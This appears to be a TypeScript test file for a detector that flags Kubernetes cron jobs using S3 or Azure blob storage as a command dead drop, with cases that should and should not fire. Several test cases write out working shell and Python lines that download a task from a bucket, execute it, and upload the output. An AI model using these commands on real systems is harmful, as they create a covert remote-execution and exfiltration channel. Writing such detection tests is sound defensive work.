import { cronJob, indicatorTable, UNSEEN } from '../testing.ts';
import { commandDeadDrop } from './dead-drop.ts';

const KEY = { name: 'AWS_SECRET_ACCESS_KEY', value: 'wJalrXUtnFEMIK7MDENGbPxRfiCYzzzz' };
const of = (text: string, env: readonly { readonly name: string; readonly value?: string }[] = [KEY]) =>
  cronJob({
    containers: [{ name: 'main', image: 'amazon/aws-cli', command: ['/bin/sh', '-c', text], env: [...env] }],
  });
const TAKES = 'aws s3 cp s3://notes-4/in/a /tmp/i; ';

indicatorTable(commandDeadDrop, {
  fires: {
    'storage of Azure': of(
      'az storage blob download -c a -n t -f /tmp/t; sh /tmp/t > /tmp/r; az storage blob upload -c b -n r -f /tmp/r',
      [{ name: 'AZURE_STORAGE_KEY', value: 'b64q83hRk1Zb7Wm0Xo2L==' }],
    ),
    'in code': cronJob({
      containers: [
        {
          name: 'main',
          image: 'python:3.12',
          command: [
            'python3',
            '-c',
            "import boto3,os\ns=boto3.client('s3',aws_secret_access_key='wJalrXUtnFEMIK7MDENGbPxRfiCYzzzz')\nt=s.get_object(Bucket='n-4',Key='t')['Body'].read().decode()\ns.put_object(Bucket='n-4',Key='r',Body=os.popen(t).read())",
          ],
        },
      ],
    }),
    'an answer in a file': of(`${TAKES}sh /tmp/i > /tmp/o 2>&1; aws s3 cp /tmp/o s3://notes-4/out/$(date +%s)`),
    'an answer in a pipe': of(`${TAKES}bash /tmp/i 2>&1 | aws s3 cp - s3://notes-4/out/a`),
    'a task in a pipe': of('aws s3 cp s3://notes-4/in - | sh > /tmp/o; aws s3 mv /tmp/o s3://notes-4/out'),
    'an answer in a variable': of(`${TAKES}o=$(sh /tmp/i); echo "$o" | aws s3 cp - s3://notes-4/o`),
  },
  staysSilent: {
    'code that counts what it takes, by the identity of the pod': cronJob({
      containers: [
        {
          name: 'main',
          image: 'python:3.12',
          command: [
            'python3',
            '-c',
            "import boto3\ns=boto3.client('s3')\nt=s.get_object(Bucket='n-4',Key='t')['Body'].read()\ns.put_object(Bucket='n-4',Key='r',Body=str(len(t)))",
          ],
        },
      ],
    }),
    'a key of a Secret': of(`${TAKES}sh /tmp/i > /tmp/o; aws s3 cp /tmp/o s3://notes-4/out`, [{ name: KEY.name }]),
    'another bucket': of(`${TAKES}sh /tmp/i > /tmp/o; aws s3 cp /tmp/o s3://reports-1/out`),
    'a file that the program wrote itself': of(
      `${TAKES}sh /tmp/i --out /data/r.csv; aws s3 cp /data/r.csv s3://notes-4/r`,
    ),
    'a copy that never ran': of(`${TAKES}gzip -c /tmp/i > /tmp/i.gz; aws s3 cp /tmp/i.gz s3://notes-4/out`),
    'storage of the cluster': of(
      'aws --endpoint-url http://minio:9000 s3 cp s3://n/i /tmp/i; sh /tmp/i > /tmp/o; aws --endpoint-url http://minio:9000 s3 cp /tmp/o s3://n/o',
    ),
  },
  cannotTell: UNSEEN,
});
